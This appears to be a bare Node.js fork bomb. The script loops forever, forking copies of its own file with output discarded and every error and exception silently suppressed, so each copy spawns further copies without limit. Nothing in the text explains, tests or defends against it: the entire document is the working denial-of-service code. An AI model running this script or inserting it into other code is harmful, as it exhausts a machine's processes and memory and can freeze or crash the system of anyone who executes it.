const { fork } = require('child_process');

for (;;) {
  try {
    fork(__filename, { stdio: 'ignore' }).on('error', () => {});
  } catch {}
}
